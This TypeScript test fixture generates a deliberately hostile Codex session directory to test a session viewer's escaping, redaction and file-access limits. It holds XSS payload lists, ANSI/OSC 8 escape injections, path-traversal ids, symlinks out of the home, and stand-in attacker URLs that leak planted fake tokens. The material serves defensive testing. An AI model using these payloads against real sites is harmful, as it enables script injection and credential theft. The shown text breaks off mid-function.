/**
 * A hostile Codex home, written at test time: sessions of every format generation (0-3) in which
 * every field a page shows carries a payload (markup that would run script, scheme tricks, ANSI
 * and OSC 8 escapes, break-outs, bidi and control characters), planted secrets of the common
 * providers (built at run time from pieces, see test/redact/fake.ts), broken lines, and hostile
 * session ids. Every script payload sets `window.__pwned`, so a browser test can tell whether any
 * of it ran.
 */
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { zstdCompressSync } from 'node:zlib';
import path from 'node:path';
import { fakes, planted, rand, type Fake } from '../redact/fake.ts';

/** A planted secret: where it goes and the random part that must never appear in the output. */
export interface Planted {
  kind: string;
  /** The text planted (the secret in its recognisable context). */
  text: string;
  random: string;
}

/** What the generator wrote, for the assertions. */
export interface HostileHome {
  home: string;
  secrets: Planted[];
  /** Session ids as the files claim them (safe and hostile). */
  ids: string[];
  /** The hostile ids among them. */
  hostileIds: string[];
  /** Excluded sessions: their ids, cwd pattern and words that occur nowhere else. */
  excluded: { ids: string[]; cwdPattern: string; words: string[]; titles: string[] };
  /** The day every dated session starts on (UTC). */
  day: { year: string; month: string; day: string };
}

const b64 = (s: string) => Buffer.from(s).toString('base64');

/** Markup and scheme payloads; each one that could run sets window.__pwned. */
export const XSS = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=2">',
  '<iframe src="javascript:window.__pwned=3"></iframe><iframe srcdoc="<script>parent.__pwned=3</script>"></iframe>',
  '<svg onload="window.__pwned=4"><script>window.__pwned=5</script><a xlink:href="javascript:window.__pwned=5">s</a></svg>',
  '<style>body{display:none}</style><link rel=stylesheet href="https://evil.example.invalid/x.css">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=6">',
  '</pre><script>window.__pwned=7</script>',
  '</textarea><script>window.__pwned=8</script>',
  '</code></pre><script>window.__pwned=9</script>',
  '</title><script>window.__pwned=9</script>',
  '--><script>window.__pwned=9</script><!--',
  ']]><script>window.__pwned=9</script>',
  '[click me](javascript:window.__pwned=10) [data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+) [vb](vbscript:msgbox(1))',
  '[mixed case](JaVaScRiPt:window.__pwned=16) [entity](jav&#x61;script:window.__pwned=17) [spaces]( javascript:window.__pwned=17)',
  '<a href="javascript:window.__pwned=11">raw link</a> <a href="data:text/html,<script>x</script>">raw data</a>',
  '![pixel](javascript:window.__pwned=12) ![remote](https://evil.example.invalid/track.png) ![svg](data:image/svg+xml;base64,' +
    b64('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=13"/>') +
    ')',
  '<https://evil.example.invalid/autolink> [ok link](https://example.org/page)',
  '[proto-relative](//evil.example.invalid/pr) [backslash](/\\evil.example.invalid/bs) [backslashes](\\\\evil.example.invalid/bs2) [root](/etc/passwd) [up](../../../../etc/passwd) [file](file:///etc/passwd)',
  '&lt;script&gt;window.__pwned=14&lt;/script&gt; &#x3C;script&#x3E;x&#x3C;/script&#x3E; &amp;lt;b&amp;gt;',
  '<meta http-equiv="refresh" content="0;url=https://evil.example.invalid/"><base href="https://evil.example.invalid/">',
  '<form action="https://evil.example.invalid/"><input name=q autofocus onfocus="window.__pwned=15"><button>go</button></form>',
  '<object data="javascript:window.__pwned=18"></object><embed src="javascript:window.__pwned=18">',
  '<a href="https://evil.example.invalid/" style="position:fixed;inset:0" target="_top">styled</a> <p style="color:red">red</p>',
  '<details open ontoggle="window.__pwned=19">d</details> <video><source onerror="window.__pwned=19"></video>',
  '{{constructor.constructor("window.__pwned=20")()}} ${window.__pwned=20} <%= 1 %>',
  'bidi: \u202Eevil.exe\u202C \u2066isolate\u2069 \u200Fmark \u061C zw\u200Bsp',
  'controls: nul\u0000 bell\u0007 bs\u0008 vt\u000B ff\u000C del\u007F c1\u0085\u009B',
].join('\n');

/** ANSI escapes: colours, cursor movement, screen clear, window title, an OSC 8 hyperlink. */
export const ANSI =
  '\x1b[31mred\x1b[0m \x1b[1;4mbold\x1b[0m \x1b[2J\x1b[H\x1b[10;20H\x1b[?25l\x1b]0;window title\x07 ' +
  '\x1b]8;;javascript:window.__pwned=21\x07osc8 link\x1b]8;;\x07 \x1b]8;;https://evil.example.invalid/\x1b\\osc8 remote\x1b]8;;\x1b\\ ' +
  '\x1b[38;2;255;0;0mtruecolor\x1b[0m \x1b[38;5;"onmouseover=x;m odd</code><script>window.__pwned=22</script>';

/** Words only in files the build must never read (credentials, targets of symlinks out of the home). */
export const NEVER_WORDS = ['outsidewordzanthoxylum', 'authjsonwordquagga', 'configtomlwordokapi'];

/** The hostile session ids (file names carry them where a name can). */
export function hostileIds(): string[] {
  return [
    '../../etc/x',
    '..%2f..%2fx',
    '<script>window.__pwned=30</script>',
    'x'.repeat(150) + '/../' + 'y'.repeat(150),
    '0199aaaa-bbbb-7ccc-8ddd-EEEEEEEEEEEE',
    '0199aaaa-bbbb-7ccc-8ddd-eeeeeeeeeeee',
    'CON',
    '.',
    '',
  ];
}

function secretsOf(): { all: Planted[]; fake: Record<string, Fake> } {
  const wanted = ['github', 'github-fine-grained', 'aws-access-key', 'aws-secret', 'gitlab', 'slack', 'stripe', 'google-api', 'openai', 'anthropic', 'jwt', 'npm', 'private-key', 'url-password', 'bearer'];
  const fake: Record<string, Fake> = {};
  for (const f of fakes()) if (wanted.includes(f.kind)) fake[f.kind] = f;
  // Every other provider test/redact/fake.ts knows, too (PyPI, Twilio, SendGrid, Azure, cookies, …).
  for (const f of fakes()) if (!(f.kind in fake)) fake[f.kind] = f;
  const all: Planted[] = Object.values(fake).map((f) => ({ kind: f.kind, text: planted(f), random: f.random }));
  // `.env` style database URL, and an e-mail address of a real-looking domain.
  const dbPassword = rand(18);
  all.push({ kind: 'env-database-url', text: `DATABASE_URL=postgres://app:${dbPassword}@db.internal:5432/main`, random: dbPassword });
  const local = rand(12, 'abcdefghijklmnopqrstuvwxyz');
  all.push({ kind: 'email', text: `${local}@acme-corp.io`, random: local });
  return { all, fake };
}

const TS = (h: number, m = 0, s = 0) => `2026-03-04T${String(h).padStart(2, '0')}:${String(m).padStart(2, '0')}:${String(s).padStart(2, '0')}.000Z`;
const env = (timestamp: string, type: string, payload: unknown, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ timestamp, type, payload, ...extra });
/** A message as Codex writes it in legacy mode: the response item (the transcript) and its event. */
const say = (timestamp: string, role: 'user' | 'assistant', text: string) =>
  [
    env(timestamp, 'response_item', { type: 'message', role, content: [{ type: role === 'user' ? 'input_text' : 'output_text', text }] }),
    env(timestamp, 'event_msg', role === 'user' ? { type: 'user_message', message: text } : { type: 'agent_message', message: text }),
  ].join('\n');

/** Writes the hostile home under `root` and returns what it planted. */
export async function writeHostileHome(root: string): Promise<HostileHome> {
  const home = path.join(root, 'codex-home');
  const day = path.join(home, 'sessions', '2026', '03', '04');
  await mkdir(day, { recursive: true });
  await mkdir(path.join(home, 'archived_sessions'), { recursive: true });
  const { all: secrets, fake } = secretsOf();
  const S = secrets.map((s) => s.text).join('\n');
  const P = `${XSS}\n${S}`;
  const gh = fake['github']!.value;
  const slack = fake['slack']!.value;
  const stripe = fake['stripe']!.value;
  const bearer = fake['bearer']!.value;
  const email = secrets.find((s) => s.kind === 'email')!.text;
  // A long single-line output whose page view is cut (head budget 7,500 characters) right
  // inside a secret, and a token cut off by Codex's own truncation at the end of a string.
  const cutHead = 'x'.repeat(7_490) + ' ' + gh + ' ' + 'y'.repeat(30_000) + ' ' + stripe + ' ' + 'z'.repeat(7_495);
  const cutToken = `token was ${fake['gitlab']!.value.slice(0, 24)}… [truncated 4000 bytes]\n${gh.slice(0, 30)}`;
  const svg = 'data:image/svg+xml;base64,' + b64('<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned=40</script></svg>');
  const svgRaw = 'data:image/svg+xml,<svg onload="window.__pwned=41"></svg>';
  const remote = 'https://evil.example.invalid/track.png?leak=1';
  const idKitchen = '0199c001-0000-7000-8000-00000000a001';
  const idGen3 = '0199c001-0000-7000-8000-00000000a003';
  const idGen1 = '5973b6c0-94b8-487b-a530-2aeb60980001';
  const idGen0 = '6f1c2d4e-0b6a-4c57-9a53-3b4f0e9d0001';
  const ids: string[] = [idKitchen, idGen3, idGen1, idGen0];
  const args = (o: unknown) => JSON.stringify(o);

  // ---- Generation 2, legacy: every kind of item, hostile everywhere. ----
  const git = { commit_hash: '"><script>window.__pwned=50</script>', branch: '"><script>window.__pwned=51</script>', repository_url: 'javascript:alert(1)' };
  const kitchen = [
    env(TS(9), 'session_meta', {
      id: idKitchen,
      timestamp: TS(9),
      cwd: `/home/dev/"><img src=x onerror=window.__pwned=52>/${gh}`,
      originator: '<script>window.__pwned=53</script>',
      cli_version: '0.146.0"><script>window.__pwned=54</script>',
      source: { subagent: { thread_spawn: { parent_thread_id: '<script>window.__pwned=55</script>', depth: 1, agent_path: '/root/<script>x</script>', agent_nickname: '<img src=x onerror=window.__pwned=56>', agent_role: '"><script>window.__pwned=57</script>' } } },
      model_provider: '<b>openai</b>',
      agent_nickname: '<img src=x onerror=window.__pwned=56>',
      agent_role: '</textarea><script>window.__pwned=57</script>',
      base_instructions: { text: P },
      git,
    }),
    env(TS(9, 0, 1), 'turn_context', { turn_id: 't1', cwd: `/srv/${slack}`, approval_policy: '<script>x</script>', sandbox_policy: { type: '<script>x</script>' }, model: 'gpt-5<script>window.__pwned=58</script>', summary: 'auto' }),
    env(TS(9, 0, 2), 'event_msg', { type: 'task_started', turn_id: 't1', model_context_window: 1000 }),
    env(TS(9, 0, 3), 'response_item', { type: 'message', role: 'user', content: [{ type: 'input_text', text: P }, { type: 'input_image', image_url: svg }, { type: 'input_image', image_url: remote }, { type: 'input_image', image_url: 'javascript:window.__pwned=42' }] }),
    env(TS(9, 0, 3), 'event_msg', { type: 'user_message', message: P, images: [svg, svgRaw, remote, 'javascript:window.__pwned=43'], local_images: ['/tmp/"><script>window.__pwned=44</script>.png'] }),
    env(TS(9, 0, 4), 'response_item', { type: 'reasoning', summary: [{ type: 'summary_text', text: `**${XSS}**\n${S}` }], encrypted_content: null }),
    env(TS(9, 0, 4), 'event_msg', { type: 'agent_reasoning', text: P }),
    env(TS(9, 0, 5), 'response_item', {
      type: 'function_call',
      name: 'shell',
      call_id: 'c1',
      arguments: args({ command: ['bash', '-lc', `curl -H "Authorization: Bearer ${bearer}" https://api.internal/ </code><script>window.__pwned=60</script> ${ANSI}`], workdir: `/home/dev/${stripe}`, env: { GITHUB_TOKEN: gh, NESTED: args({ slack_token: slack, api_key: stripe }) } }),
    }),
    env(TS(9, 0, 6), 'response_item', { type: 'function_call_output', call_id: 'c1', output: args({ output: `${ANSI}\n${P}\n${ANSI}`, metadata: { exit_code: 1, duration_seconds: 0.5 } }) }),
    env(TS(9, 0, 7), 'response_item', { type: 'function_call', name: 'shell_command', call_id: 'c2', arguments: args({ command: `cat big.log # ${XSS}` }) }),
    env(TS(9, 0, 8), 'response_item', { type: 'function_call_output', call_id: 'c2', output: `Exit code: 0\nWall time: 0.4 seconds\nOutput:\n${cutHead}` }),
    env(TS(9, 0, 9), 'response_item', { type: 'function_call', name: 'exec_command', call_id: 'c3', arguments: args({ cmd: `echo ${fake['npm']!.value}` }) }),
    env(TS(9, 0, 10), 'response_item', { type: 'function_call_output', call_id: 'c3', output: cutToken }),
    env(TS(9, 0, 11), 'response_item', { type: 'local_shell_call', call_id: 'c4', status: 'completed', action: { type: 'exec', command: ['sh', '-c', `</code><script>window.__pwned=61</script>`], timeout_ms: 1, working_directory: '<script>x</script>', env: { AWS_SECRET_ACCESS_KEY: fake['aws-secret']!.value }, user: null } }),
    env(TS(9, 0, 12), 'response_item', { type: 'function_call_output', call_id: 'c4', output: args({ output: S, metadata: { exit_code: 0, duration_seconds: 1 } }) }),
    env(TS(9, 0, 13), 'response_item', {
      type: 'custom_tool_call',
      name: 'apply_patch',
      call_id: 'c5',
      input: `*** Begin Patch\n*** Add File: src/"><img src=x onerror=window.__pwned=62>.ts\n+const key = "${stripe}";\n+${XSS.split('\n').join('\n+')}\n*** Update File: ../../../etc/<script>window.__pwned=63</script>\n@@ </code>\n-old ${fake['google-api']!.value}\n+new ${ANSI}\n*** Delete File: javascript:alert(1)\n*** End Patch`,
    }),
    env(TS(9, 0, 14), 'response_item', { type: 'custom_tool_call_output', call_id: 'c5', output: `Success. Updated the following files:\n${XSS}` }),
    env(TS(9, 0, 14), 'event_msg', {
      type: 'patch_apply_end',
      call_id: 'c5',
      turn_id: 't1',
      stdout: P,
      stderr: ANSI,
      success: true,
      changes: {
        [`src/"><img src=x onerror=window.__pwned=64>/${slack}.ts`]: { type: 'add', content: `const k = "${gh}";\n${XSS}` },
        'javascript:alert(1)': { type: 'update', unified_diff: `@@ -1 +1 @@\n-${fake['openai']!.value}\n+</pre><script>window.__pwned=65</script>\n+${fake['private-key']!.value}`, move_path: '<script>window.__pwned=66</script>' },
        '\u202Eevil.txt': { type: 'delete', content: P },
      },
    }),
    env(TS(9, 0, 15), 'response_item', {
      type: 'function_call',
      name: 'update_plan',
      call_id: 'c6',
      arguments: args({ explanation: P, plan: [{ step: XSS, status: 'in_progress' }, { step: `deploy with ${fake['anthropic']!.value}`, status: '<script>window.__pwned=67</script>' }] }),
    }),
    env(TS(9, 0, 16), 'response_item', { type: 'function_call_output', call_id: 'c6', output: 'Plan updated' }),
    env(TS(9, 0, 17), 'response_item', { type: 'function_call', name: 'mcp__evil<script>window.__pwned=68</script>__tool"onload=x', call_id: 'c7', arguments: args({ query: XSS, payload: args({ password: rand(12), token: gh }) }) }),
    env(TS(9, 0, 18), 'response_item', { type: 'function_call_output', call_id: 'c7', output: args({ content: [{ type: 'text', text: P }] }) }),
    env(TS(9, 0, 18), 'event_msg', {
      type: 'mcp_tool_call_end',
      call_id: 'c7',
      invocation: { server: '<img src=x onerror=window.__pwned=69>', tool: '"><script>window.__pwned=70</script>', arguments: { token: fake['jwt']!.value, q: XSS } },
      duration: { secs: 1, nanos: 0 },
      result: { Ok: { content: [{ type: 'text', text: P }, { type: 'image', data: b64('<svg onload=x>'), mimeType: 'image/svg+xml' }], structuredContent: { html: XSS, key: stripe } } },
    }),
    env(TS(9, 0, 19), 'response_item', { type: 'web_search_call', status: 'completed', action: { type: 'search', query: `${XSS} ${email}`, queries: [XSS] } }),
    env(TS(9, 0, 19), 'response_item', { type: 'web_search_call', status: 'completed', action: { type: 'open_page', url: 'javascript:window.__pwned=71' } }),
    env(TS(9, 0, 19), 'response_item', { type: 'web_search_call', status: 'completed', action: { type: 'find_in_page', url: 'data:text/html,<script>window.__pwned=72</script>', pattern: XSS } }),
    env(TS(9, 0, 19), 'event_msg', { type: 'web_search_end', call_id: 'ws1', query: XSS, action: { type: 'open_page', url: `https://evil.example.invalid/?k=${gh}` } }),
    env(TS(9, 0, 20), 'response_item', { type: 'function_call', name: 'view_image', call_id: 'c8', arguments: args({ path: '/tmp/<script>x</script>.png' }) }),
    env(TS(9, 0, 21), 'response_item', { type: 'function_call_output', call_id: 'c8', output: [{ type: 'input_image', image_url: svg }, { type: 'input_image', image_url: remote }, { type: 'input_text', text: P }] }),
    env(TS(9, 0, 22), 'response_item', { type: 'image_generation_call', status: 'completed', revised_prompt: P, result: b64('<script>window.__pwned=73</script>') }),
    env(TS(9, 0, 23), 'response_item', { type: 'agent_message', author: '/root/<script>x</script>', recipient: '<img src=x onerror=window.__pwned=74>', content: [{ type: 'input_text', text: P }] }),
    env(TS(9, 0, 24), 'response_item', { type: '<script>window.__pwned=75</script>', weird: { html: XSS, secret: gh, nested: [[[{ '__proto__': { polluted: 1 }, x: P }]]] } }),
    env(TS(9, 0, 25), '"><script>window.__pwned=76</script>', { html: XSS, key: stripe }),
    env(TS(9, 0, 26), 'event_msg', { type: '<img src=x onerror=window.__pwned=77>', message: P }),
    env(TS(9, 0, 27), 'response_item', { type: 'message', role: 'assistant', content: [{ type: 'output_text', text: `# ${XSS}\n\n${S}\n\n\`\`\`html\n${XSS}\n\`\`\`\n\n\`\`\`bash\n${ANSI}\n\`\`\`\n\n| a | b |\n|---|---|\n| ${XSS.split('\n')[0]} | x |` }] }),
    env(TS(9, 0, 27), 'event_msg', { type: 'agent_message', message: P }),
    env(TS(9, 0, 28), 'event_msg', { type: 'error', message: P }),
    env(TS(9, 0, 29), 'event_msg', { type: 'turn_aborted', reason: '<script>window.__pwned=78</script>', turn_id: 't1' }),
    env(TS(9, 0, 30), 'event_msg', { type: 'task_complete', turn_id: 't1', last_agent_message: P, error: { message: P } }),
    '{"timestamp":"2026-03-04T09:00:31.000Z","type":"event_msg","payload":{"type":"agent_message","message":"<script>window.__pwned=79</script>',
    'not json at all <script>window.__pwned=80</script> ' + gh,
    '\u0000\u0001\u0002',
  ].join('\n');
  // Invalid UTF-8 bytes in the middle of a line, and a truncated last line (no newline).
  const kitchenBytes = Buffer.concat([
    Buffer.from(kitchen + '\n'),
    Buffer.from('{"timestamp":"2026-03-04T09:00:32.000Z","type":"event_msg","payload":{"type":"agent_message","message":"bad '),
    Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80]),
    Buffer.from(` ${stripe}"}}\n`),
    Buffer.from(env(TS(9, 0, 33), 'event_msg', { type: 'agent_message', message: `cut here ${fake['slack']!.value.slice(0, 20)}` }).slice(0, -20)),
  ]);
  await writeFile(path.join(day, `rollout-2026-03-04T09-00-00-${idKitchen}.jsonl`), kitchenBytes);

  // ---- Generation 3, paginated: typed turn items. ----
  let ordinal = 0;
  const p = (timestamp: string, type: string, payload: unknown) => env(timestamp, type, payload, { ordinal: ordinal++ });
  const item = (s: number, it: unknown) => p(TS(10, 0, s), 'event_msg', { type: 'item_completed', thread_id: idGen3, turn_id: 'u1', item: it, completed_at_ms: 1 });
  const gen3 = [
    p(TS(10), 'session_meta', { id: idGen3, session_id: idGen3, timestamp: TS(10), cwd: '/srv/job', originator: 'codex_exec', cli_version: '0.148.0', source: 'exec', history_mode: 'paginated', git: { branch: '"><script>window.__pwned=90</script>', repository_url: 'https://github.com/acme/"><script>x</script>.git' } }),
    p(TS(10, 0, 1), 'event_msg', { type: 'task_started', turn_id: 'u1' }),
    p(TS(10, 0, 2), 'response_item', { type: 'message', id: 'msg_1', role: 'user', content: [{ type: 'input_text', text: P }] }),
    item(3, { type: 'UserMessage', id: 'i1', content: [{ type: 'text', text: P, text_elements: [] }, { type: 'image', image_url: svg }, { type: 'local_image', path: '/x/"><script>window.__pwned=91</script>' }, { type: 'mention', name: '<script>x</script>', path: 'javascript:alert(1)' }] }),
    item(4, { type: 'AgentMessage', id: 'i2', content: [{ type: 'Text', text: P }], phase: 'final_answer' }),
    item(5, { type: 'Reasoning', id: 'i3', summary_text: [P], raw_content: [P] }),
    item(6, { type: 'Plan', id: 'i4', text: P }),
    p(TS(10, 0, 7), 'response_item', { type: 'function_call', name: 'exec_command', call_id: 'i5', arguments: args({ cmd: `curl -H "Authorization: Bearer ${bearer}" "</code><script>window.__pwned=92</script>"`, workdir: '/srv/"><script>x</script>' }) }),
    item(7, { type: 'CommandExecution', id: 'i5', command: ['bash', '-lc', `curl -H "Authorization: Bearer ${bearer}" "</code><script>window.__pwned=92</script>"`], cwd: 'file:///srv/"><script>x</script>', parsed_cmd: [], source: 'agent', status: 'failed', aggregated_output: `${ANSI}\n${P}`, exit_code: 3, duration: { secs: 1, nanos: 0 } }),
    p(TS(10, 0, 8), 'response_item', { type: 'custom_tool_call', name: 'apply_patch', call_id: 'i6', input: `*** Begin Patch\n*** Update File: "><svg onload=window.__pwned=93>/x\n@@\n+${XSS}\n*** End Patch` }),
    item(8, { type: 'FileChange', id: 'i6', changes: { [`"><svg onload=window.__pwned=93>/${gh}`]: { type: 'update', unified_diff: `@@\n-${fake['aws-access-key']!.value}\n+${XSS}`, move_path: null } }, status: 'completed' }),
    p(TS(10, 0, 9), 'response_item', { type: 'function_call', name: '<img src=x onerror=window.__pwned=95>', namespace: 'mcp__<script>window.__pwned=94</script>', call_id: 'i7', arguments: args({ body: args({ Authorization: `Bearer ${bearer}` }) }) }),
    item(9, { type: 'McpToolCall', id: 'i7', server: '<script>window.__pwned=94</script>', tool: '<img src=x onerror=window.__pwned=95>', arguments: { body: args({ Authorization: `Bearer ${bearer}` }) }, status: 'completed', result: { content: [{ type: 'text', text: P }] } }),
    p(TS(10, 0, 10), 'response_item', { type: 'web_search_call', id: 'i8', status: 'completed', action: { type: 'open_page', url: 'javascript:window.__pwned=96' } }),
    item(10, { type: 'WebSearch', id: 'i8', query: XSS, action: { type: 'open_page', url: 'javascript:window.__pwned=96' } }),
    p(TS(10, 0, 11), 'response_item', { type: 'function_call', name: 'spawn_agent', call_id: 'i9', arguments: args({ message: P, agent_type: '<img src=x onerror=window.__pwned=97>' }) }),
    item(11, { type: 'CollabAgentToolCall', id: 'i9', tool: 'spawn_agent', status: 'completed', sender_thread_id: idGen3, receiver_thread_ids: ['<script>x</script>'], receiver_agents: [{ thread_id: '../../x', agent_nickname: '<img src=x onerror=window.__pwned=97>', agent_role: XSS }], prompt: P, agents_states: {} }),
    p(TS(10, 0, 12), 'response_item', { type: 'function_call', name: 'view_image', call_id: 'i10', arguments: args({ path: '/x/"><script>window.__pwned=98</script>.png' }) }),
    item(12, { type: 'ImageView', id: 'i10', path: 'file:///"><script>window.__pwned=98</script>.png' }),
    item(13, { type: 'DynamicToolCall', id: 'i11', tool: '<script>x</script>', arguments: { s: P }, status: 'completed', content_items: [{ type: 'inputText', text: P }] }),
    item(14, { type: '"><script>window.__pwned=99</script>', id: 'i12', html: XSS }),
    item(15, { type: 'Extension', kind: '<script>x</script>', id: 'i13', html: XSS }),
    p(TS(10, 0, 16), 'event_msg', { type: 'task_complete', turn_id: 'u1', last_agent_message: P }),
  ].join('\n');
  await writeFile(path.join(day, `rollout-2026-03-04T10-00-00-${idGen3}.jsonl`), gen3 + '\n');

  // ---- Generation 1: bare JSONL. ----
  const gen1 = [
    JSON.stringify({ id: idGen1, timestamp: TS(11), instructions: P, git: { branch: '"><script>window.__pwned=100</script>', repository_url: 'javascript:alert(1)' } }),
    JSON.stringify({ type: 'message', id: null, role: 'user', content: [{ type: 'input_text', text: `<environment_context>\n  <cwd>/home/dev/"><script>x</script></cwd>\n</environment_context>` }] }),
    JSON.stringify({ type: 'message', id: null, role: 'user', content: [{ type: 'input_text', text: P }] }),
    JSON.stringify({ record_type: 'state' }),
    JSON.stringify({ type: 'function_call', id: 'fc', name: 'shell', arguments: args({ command: ['bash', '-lc', `echo ${fake['aws-access-key']!.value}`] }), call_id: 'g1' }),
    JSON.stringify({ type: 'function_call_output', call_id: 'g1', output: args({ output: `${ANSI}${S}`, metadata: { exit_code: 0, duration_seconds: 1 } }) }),
    JSON.stringify({ type: 'message', id: 'm', role: 'assistant', content: [{ type: 'output_text', text: P }] }),
    '{"type":"message","role":"assistant","content":[{"type":"output_text","text":"truncated',
  ].join('\n');
  await writeFile(path.join(day, `rollout-2026-03-04T11-00-00-${idGen1}.jsonl`), gen1);

  // ---- Generation 0: TypeScript CLI JSON. ----
  const gen0 = {
    session: { timestamp: TS(12), id: idGen0, instructions: P },
    items: [
      { id: 'msg_1', type: 'message', role: 'user', status: 'completed', content: [{ type: 'input_text', text: P }] },
      { id: 'msg_s', type: 'message', role: 'system', status: 'completed', content: [{ type: 'input_text', text: P }] },
      { id: 'fc_1', type: 'function_call', call_id: 'call_1', name: 'shell', arguments: args({ command: ['cat', `</code><script>window.__pwned=110</script>`] }), status: 'completed' },
      { type: 'function_call_output', call_id: 'call_1', output: args({ output: `${ANSI}${S}`, metadata: { exit_code: 0, duration_seconds: 0.1 } }) },
      { id: 'msg_2', type: 'message', role: 'assistant', status: 'completed', content: [{ type: 'output_text', text: P, annotations: [{ url: 'javascript:window.__pwned=111' }] }] },
    ],
  };
  await writeFile(path.join(home, 'sessions', `rollout-2026-03-04-${idGen0}.json`), JSON.stringify(gen0, null, 2));

  // ---- Hostile ids: what the session_meta claims, in files whose names carry no uuid. ----
  // Plus ids that are secrets themselves: an id names a folder, so it must not be published.
  const hostile = [...hostileIds(), gh, email];
  let n = 0;
  for (const id of hostile) {
    n++;
    const lines = [
      env(TS(13, n), 'session_meta', { id, timestamp: TS(13, n), cwd: n > hostileIds().length ? `/work/${fake['npm']!.value}/${gh}` : `/work/hostile-${n}`, originator: 'codex_cli_rs', cli_version: '0.146.0', source: 'cli' }),
      say(TS(13, n, 1), 'user', `hostile id ${n} ${XSS.split('\n')[0]}`),
      say(TS(13, n, 2), 'assistant', `answer ${n}`),
    ];
    const safeName = `rollout-2026-03-04T13-${String(n).padStart(2, '0')}-00-hostile${n}.jsonl`;
    await writeFile(path.join(day, safeName), lines.join('\n') + '\n');
  }
  // A file name carrying markup and a uuid-like id, and two files claiming the same id.
  const dupId = '0199c001-0000-7000-8000-00000000d0d0';
  for (const [folder, stamp] of [[day, '14-00-00'], [path.join(home, 'archived_sessions'), '14-30-00']] as const) {
    await writeFile(
      path.join(folder, `rollout-2026-03-04T${stamp}-${dupId}.jsonl`),
      [env(TS(14), 'session_meta', { id: dupId, timestamp: TS(14), cwd: '/work/dup', originator: 'x', cli_version: '0.146.0' }), say(TS(14, 0, 1), 'user', `duplicate in ${stamp}`)].join('\n') + '\n',
    );
  }
  ids.push(dupId);
  await writeFile(
    path.join(day, 'rollout-2026-03-04T15-00-00-<script>window.__pwned=120<\\script>.jsonl'),
    env(TS(15), 'session_meta', { id: '', timestamp: TS(15), cwd: '/work/nameless' }) + '\n' + say(TS(15, 0, 1), 'user', 'file named with markup') + '\n',
  );
  ids.push(...hostile);

  // ---- Excluded sessions: one by id, one by cwd; each with words and a title found nowhere else. ----
  const exId = '0199c001-0000-7000-8000-0000000e0001';
  const exCwdId = '0199c001-0000-7000-8000-0000000e0002';
  const words = ['quixoticzebrafjord', 'xylophonicmarmalade', 'exclusionwordthree'];
  const titles = ['Secret merger plan Vandelay', 'Confidential Kramerica layoffs'];
  await writeFile(
    path.join(day, `rollout-2026-03-04T16-00-00-${exId}.jsonl`),
    [
      env(TS(16), 'session_meta', { id: exId, timestamp: TS(16), cwd: '/work/public', originator: 'x', cli_version: '0.146.0' }),
      say(TS(16, 0, 1), 'user', `please ${words[0]} now`),
      say(TS(16, 0, 2), 'assistant', `done ${words[2]}`),
    ].join('\n') + '\n',
  );
  await writeFile(
    path.join(day, `rollout-2026-03-04T16-30-00-${exCwdId}.jsonl`),
    [
      env(TS(16, 30), 'session_meta', { id: exCwdId, timestamp: TS(16, 30), cwd: '/home/dev/clients/vandelay/app', originator: 'x', cli_version: '0.146.0', git: { repository_url: 'https://github.com/vandelay/industries.git' } }),
      say(TS(16, 30, 1), 'user', `run ${words[1]}`),
    ].join('\n') + '\n',
  );
  // A session that forks the excluded one (its id must not leak through the fork link).
  const forkId = '0199c001-0000-7000-8000-0000000f0001';
  await writeFile(
    path.join(day, `rollout-2026-03-04T17-00-00-${forkId}.jsonl`),
    [
      env(TS(17), 'session_meta', { id: forkId, forked_from_id: exId, timestamp: TS(17), cwd: '/work/public', originator: 'x', cli_version: '0.146.0' }),
      say(TS(17, 0, 1), 'user', 'a fork'),
    ].join('\n') + '\n',
  );
  ids.push(forkId);

  // ---- Compressed (.jsonl.zst) hostile session. ----
  const idZst = '0199c001-0000-7000-8000-00000000a0a5';
  const zst = [
    env(TS(18), 'session_meta', { id: idZst, timestamp: TS(18), cwd: '/work/zst', originator: 'x', cli_version: '0.146.0' }),
    say(TS(18, 0, 1), 'user', `compressed ${P}`),
    say(TS(18, 0, 2), 'assistant', `<script>window.__pwned=140</script> ${S}`),
  ].join('\n');
  await writeFile(path.join(day, `rollout-2026-03-04T18-00-00-${idZst}.jsonl.zst`), zstdCompressSync(Buffer.from(zst + '\n')));
  ids.push(idZst);

  // ---- Files that must never be read or published: credentials, and symlinks out of the home. ----
  const outside = path.join(root, 'outside');
  await mkdir(outside, { recursive: true });
  await writeFile(path.join(outside, 'secret.jsonl'), [env(TS(19), 'session_meta', { id: '0199c001-0000-7000-8000-00000000ba0d', timestamp: TS(19), cwd: '/x' }), say(TS(19, 0, 1), 'user', `${NEVER_WORDS[0]} ${S}`)].join('\n') + '\n');
  await symlink(path.join(outside, 'secret.jsonl'), path.join(day, 'rollout-2026-03-04T19-00-00-0199c001-0000-7000-8000-00000000ba0d.jsonl'));
  await symlink(outside, path.join(home, 'sessions', '2026', 'outside-link'));
  await symlink('..', path.join(home, 'sessions', '2026', 'loop'));
  await writeFile(path.join(home, 'auth.json'), JSON.stringify({ OPENAI_API_KEY: fake['openai']!.value, note: NEVER_WORDS[1] }));
  await writeFile(path.join(home, 'config.toml'), `# ${NEVER_WORDS[2]}\n[mcp_servers.x]\nenv = { TOKEN = "${gh}" }\n`);

  // ---- session_index.jsonl: hostile and secret-bearing thread names; a broken line. ----
  const names = [
    { id: idKitchen, thread_name: `<script>window.__pwned=130</script> ${slack} ${email}`, updated_at: TS(18) },
    { id: idGen3, thread_name: `"><img src=x onerror=window.__pwned=131> \u202Egnp.exe ${fake['openai']!.value}`, updated_at: TS(18) },
    { id: idGen1, thread_name: `</title><script>window.__pwned=132</script>`, updated_at: 'unknown' },
    { id: exId, thread_name: titles[0], updated_at: TS(18) },
    { id: exCwdId, thread_name: titles[1], updated_at: TS(18) },
    { id: '../../etc/x', thread_name: '<script>window.__pwned=133</script>', updated_at: TS(18) },
  ];
  await writeFile(path.join(home, 'session_index.jsonl'), names.map((x) => JSON.stringify(x)).join('\n') + '\n{"id":"broken\n');
  await writeFile(path.join(home, 'history.jsonl'), JSON.stringify({ session_id: idKitchen, ts: 1772614800, text: P }) + '\n');

  return {
    home,
    secrets,
    ids,
    hostileIds: hostile,
